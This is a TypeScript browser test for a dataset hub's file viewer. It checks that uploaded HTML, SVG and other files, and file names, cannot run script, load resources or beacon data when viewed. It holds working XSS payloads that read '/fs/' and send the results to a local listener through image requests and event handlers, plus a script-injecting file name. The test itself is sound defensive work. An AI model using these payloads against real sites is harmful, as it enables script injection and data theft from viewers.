/** Content of datasets that attacks whoever looks at it, met by a browser. */
import assert from "node:assert/strict";
import { execFile, spawn } from "node:child_process";
import fs from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { promisify } from "node:util";
import { systemClock } from "../../src/base/clock.ts";
import { temporaryFolder } from "../../src/dataset/testing/folder.ts";
import { connect } from "../../src/sdk/index.ts";
import { requirePeer } from "../peers.ts";
import { openHub, type TestHub } from "./test-hub.ts";

const run = promisify(execFile);

let hub: TestHub;
let folder: ReturnType<typeof temporaryFolder>;
let heard: string[];
let pages: Map<string, string>;
let elsewhere: { readonly url: string; readonly close: () => void };

before(async () => {
  folder = temporaryFolder();
  heard = [];
  pages = new Map();
  const server = createServer((request, response) => {
    const { url = "" } = request;
    const page = pages.get(url);
    if (page === undefined) heard.push(url);
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" });
    response.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  elsewhere = { url: `http://127.0.0.1:${port}`, close };
  hub = await openHub();
});
after(async () => {
  await hub.close();
  elsewhere.close();
  folder.remove();
});

/** What tells elsewhere, under its name, that it ran, loaded or sent something. */
function scriptOf(name: string): string {
  const tell = (what: string): string => `new Image().src="${elsewhere.url}/${what}/${name}"`;
  return `${tell("ran")};fetch("/fs/").then(r=>r.text()).then(t=>{${tell("read")}+"?"+t.length})`;
}

function htmlOf(name: string): string {
  const at = (what: string): string => `${elsewhere.url}/${what}/${name}`;
  return `<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<link rel="stylesheet" href="${at("style")}"/><script>${scriptOf(name).replaceAll("&", "&amp;").replaceAll("=>", "=&gt;")}</script>
<script>${scriptOf(name)}</script></head>
<body><img src="${at("image")}" onerror="${tellOf(name)}"/><svg onload="${tellOf(name)}"></svg>
<form action="${at("form")}" id="f"><input autofocus="autofocus" onfocus="${tellOf(name)}"/></form>
<iframe src="${at("frame")}"></iframe><object data="${at("object")}"></object><a href="${at("link")}">link</a></body></html>`;
}

function tellOf(name: string): string {
  return `new Image().src='${elsewhere.url}/event/${name}'`;
}

function svgOf(name: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" onload="${tellOf(name)}"><script>${tellOf(name)}</script>
<image href="${elsewhere.url}/image/${name}"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${elsewhere.url}/image/${name}"/></body></foreignObject></svg>`;
}

const HTML_NAMES = [
  ...["page.html", "page.HTM", "page.html5", "page.shtml", "page.xhtml", "page.xht", "page.xml", "page.svg"],
  ...[
    "page.txt",
    "page.css",
    "page.js",
    "page.json",
    "page.jpg",
    "page.png",
    "page.pdf",
    "page.mht",
    "page.mhtml",
  ],
  ...[
    "page",
    "page.bin",
    "page.csv",
    "page.webmanifest",
    "page.rss",
    "page.xsl",
    "page.swf",
    "page.eml",
    ".html",
  ],
];

describe("a browser that shows what datasets hold", () => {
  it("runs nothing of it, loads nothing for it, and sends nothing for it", async (t) => {
    if (!requirePeer(t, "chromium")) return;
    const source = path.join(folder.path, "source");
    fs.mkdirSync(source);
    for (const name of HTML_NAMES) fs.writeFileSync(path.join(source, name), htmlOf(name));
    for (const name of ["image.svg", "image.svgz", "image.xml"])
      fs.writeFileSync(path.join(source, name), svgOf(name));
    const client = connect(hub.host, { cacheDir: path.join(folder.path, "cache") });
    try {
      await hub.push(client, source, ["evil:one"]);
    } finally {
      await client.close();
    }
    const names = [...HTML_NAMES, "image.svg", "image.svgz", "image.xml"];
    const frames = names.map((name) => `<iframe src="${hub.url}/fs/evil/one/${name}"></iframe>`);
    pages.set("/control", htmlOf("control"));
    pages.set("/", `${frames.join("")}<iframe src="/control"></iframe>`);
    await browse(`${elsewhere.url}/`);
    const control = heard.filter((url) => url.includes("/control"));
    for (const what of ["ran", "read", "style", "image", "event", "frame"]) {
      assert.ok(
        control.some((url) => url.startsWith(`/${what}/`)),
        `where nothing forbids it: ${what}`,
      );
    }
    const others = heard.filter((url) => names.some((name) => url.split("?", 1).join().endsWith(`/${name}`)));
    assert.deepEqual(others, []);
  });

  it("shows lists with every name as it is, and runs nothing that a name says", async (t) => {
    if (!requirePeer(t, "chromium")) return;
    const source = path.join(folder.path, "names");
    fs.mkdirSync(source);
    const name = `<img src=x onerror="document.title='ran'">&lt;'"`;
    fs.writeFileSync(path.join(source, name), "x");
    const client = connect(hub.host, { cacheDir: path.join(folder.path, "cache") });
    try {
      await hub.push(client, source, ["names:one"]);
    } finally {
      await client.close();
    }
    const shown = await browse(`${hub.url}/fs/names/one/`);
    assert.match(shown, /<title>names:one\/<\/title>/);
    assert.match(shown, /&lt;img src=x onerror=/);
  });

  it("of a telephone's width, shows lists without scrolling sideways", async (t) => {
    if (!requirePeer(t, "chromium")) return;
    const source = path.join(folder.path, "wide");
    fs.mkdirSync(path.join(source, "w".repeat(120)), { recursive: true });
    fs.writeFileSync(path.join(source, `${"a long name of a file ".repeat(5)}.txt`), "x".repeat(1_234_567));
    const client = connect(hub.host, { cacheDir: path.join(folder.path, "cache") });
    try {
      const tag = `a-rather-long-tag-${"x".repeat(100)}`;
      await hub.push(client, source, [
        "@a-scope/a-name-of-a-dataset:latest",
        `@a-scope/a-name-of-a-dataset:${tag}`,
      ]);
    } finally {
      await client.close();
    }
    const top = "/fs/@a-scope/a-name-of-a-dataset/";
    for (const page of ["/fs/", "/fs/@a-scope/", top, `${top}latest/`, `${top}latest/${"w".repeat(120)}/`]) {
      const { content, window } = await widthsOf(`${hub.url}${page}`);
      assert.equal(window, PHONE_WIDTH);
      assert.ok(content <= window, `${page} is ${content} wide`);
    }
  });
});

/** The page as it is once all has been loaded and run. */
async function browse(url: string): Promise<string> {
  const profile = path.join(folder.path, "profile");
  const words = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    `--user-data-dir=${profile}`,
  ];
  words.push("--virtual-time-budget=10000", "--dump-dom", url);
  const { stdout } = await run("chromium", words, { env: { ...process.env, HOME: folder.path } });
  return stdout;
}

const PHONE_WIDTH = 390;

/** How wide a page is on a telephone, and the telephone's window, in CSS pixels; told by the DevTools protocol. */
async function widthsOf(url: string): Promise<{ readonly content: number; readonly window: number }> {
  const profile = fs.mkdtempSync(path.join(folder.path, "profile-"));
  const words = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"];
  words.push("--remote-debugging-port=0", `--user-data-dir=${profile}`, "about:blank");
  const child = spawn("chromium", words, { env: { ...process.env, HOME: folder.path }, stdio: "ignore" });
  const ended = new Promise((resolve) => child.once("close", resolve));
  try {
    const file = path.join(profile, "DevToolsActivePort");
    while (!fs.existsSync(file) || fs.readFileSync(file, "utf8").split("\n").length < 2)
      await systemClock.sleep(50);
    const [port = ""] = fs.readFileSync(file, "utf8").split("\n");
    const targets = (await (await fetch(`http://127.0.0.1:${port}/json/list`)).json()) as {
      readonly type: string;
      readonly webSocketDebuggerUrl: string;
    }[];
    const page = targets.find(({ type }) => type === "page");
    const socket = new WebSocket(page?.webSocketDebuggerUrl ?? "");
    await new Promise((resolve) => {
      socket.addEventListener("open", resolve);
    });
    let calls = 0;
    const call = (method: string, params: object): Promise<Record<string, never>> =>
      new Promise((resolve) => {
        const id = ++calls;
        socket.addEventListener("message", ({ data }) => {
          const answer = JSON.parse(String(data)) as {
            readonly id?: number;
            readonly result: Record<string, never>;
          };
          if (answer.id === id) resolve(answer.result);
        });
        socket.send(JSON.stringify({ id, method, params }));
      });
    const screen = { width: PHONE_WIDTH, height: 800, deviceScaleFactor: 2, mobile: true };
    await call("Emulation.setDeviceMetricsOverride", screen);
    await call("Page.navigate", { url });
    const expression = `document.readyState === "complete" && location.href !== "about:blank" &&
      JSON.stringify({ content: document.documentElement.scrollWidth, window: screen.width })`;
    for (;;) {
      const { result } = (await call("Runtime.evaluate", { expression })) as { result?: { value?: unknown } };
      if (typeof result?.value === "string")
        return JSON.parse(result.value) as { content: number; window: number };
      await systemClock.sleep(50);
    }
  } finally {
    child.kill("SIGKILL");
    await ended;
  }
}
